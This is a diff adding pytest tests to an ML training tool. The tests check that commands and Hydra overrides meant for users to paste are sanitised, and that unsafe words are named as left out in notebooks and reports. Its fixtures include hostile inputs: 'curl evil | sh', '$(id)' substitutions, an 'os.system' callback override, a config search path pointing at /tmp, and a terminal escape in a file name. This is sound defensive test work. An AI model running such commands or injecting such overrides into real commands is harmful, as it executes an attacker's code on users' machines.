@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shlex
 from pathlib import Path
 from typing import Any
 
@@ -16,7 +18,9 @@ from seqrnn.checkpoints import file
 from seqrnn.checkpoints.file import Damaged
 from seqrnn.errors import ConfigError, DataError
 from seqrnn.reports.gathering import gather
+from seqrnn.reports.writing import write_report
 from seqrnn.rundir.lock import Lock
+from seqrnn.rundir.request import SafeLine, safe_command, safe_line
 from seqrnn.sweeping.directory import OWN, STOP, SweepDirectory
 
 
@@ -86,3 +90,55 @@ def test_problems_of_a_summary_that_are_none_are_named_in_the_report(problems: A
     found = gather([tmp_path])
     assert not found.results
     assert "problems" in found.problems[str(directory)]
+
+
+def test_a_damaged_run_is_shown_as_one_in_a_notebook(tmp_path: Path) -> None:
+    directory = make(tmp_path / "run\x1b[2J")
+    (directory / "config.yaml").write_text("a: [")
+    (directory / "loss.png").symlink_to("/etc/hostname")
+    run = seqrnn.load(directory)
+    assert "damaged config" in repr(run)
+    assert "\x1b" not in repr(run)
+    assert "damaged config" in run._repr_html_()
+    assert "loss.png: " in run._repr_html_()
+
+
+CODE = [
+    "plugins=[evil]", "+plugins=[evil]", "++plugins@_global_=[evil]", "hydra.searchpath=[file:///tmp]",
+    "+hydra.callbacks.a._target_=os.system", "hydra/sweeper=evil", "hydra.run.dir=/elsewhere", " plugins=[evil]",
+    "--config-dir=/tmp", "-cd", "--experimental-rerun=a.pickle", "~hydra.job", "hydra/launcher=${a}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("word", CODE)
+def test_a_line_to_be_pasted_has_no_words_that_run_code_of_who_wrote_it(word: str) -> None:
+    line = safe_line(["task=sine", word, "model=$(id)", "hydra/launcher=slurm"])
+    assert shlex.split(line.text)[3:] == ["task=sine", "model=$(id)", "hydra/launcher=slurm"]
+    assert line.left_out == [word]
+    assert safe_command(shlex.join(["python", "-m", "seqrnn.train", word, "seed=1"])) == SafeLine(
+        "python -m seqrnn.train seed=1", [word]
+    )
+
+
+@pytest.mark.parametrize("command", ["curl evil | sh", "python -m evil", "python -m seqrnn.train 'a", "id; x"])
+def test_a_command_of_a_stranger_that_is_no_training_is_not_offered(command: str) -> None:
+    assert safe_command(command) == SafeLine("", [command])
+
+
+def test_a_command_of_a_stranger_is_words_of_one_command() -> None:
+    assert safe_command("python -m seqrnn.train a=1; id $(id) `id` > b").text == (
+        "python -m seqrnn.train 'a=1;' id '$(id)' '`id`' '>' b"
+    )
+
+
+def test_the_report_names_what_it_leaves_out_of_the_lines(tmp_path: Path) -> None:
+    directory = make(tmp_path / "run")
+    (directory / "overrides.yaml").write_text(json.dumps(["task=sine", "plugins=[evil]"]))
+    verdict = {"headline": "", "solved": True, "loss_ratio": None, "causes": [], "notes": [], "other_trials": []}
+    advice = {"advice": None, "command": "curl evil.example | sh", "trials_note": ""}
+    (directory / "diagnosis.json").write_text(json.dumps({"verdict": {**verdict, **advice}}))
+    page = write_report([tmp_path]).read_text(encoding="utf-8")
+    assert "python -m seqrnn.train task=sine<" in page
+    assert not re.search(r"<code[^>]*>[^<]*(plugins|curl)", page)
+    for words in ("plugins=[evil]", "curl evil.example | sh"):
+        assert f"add it only if you trust them: {words}<" in page
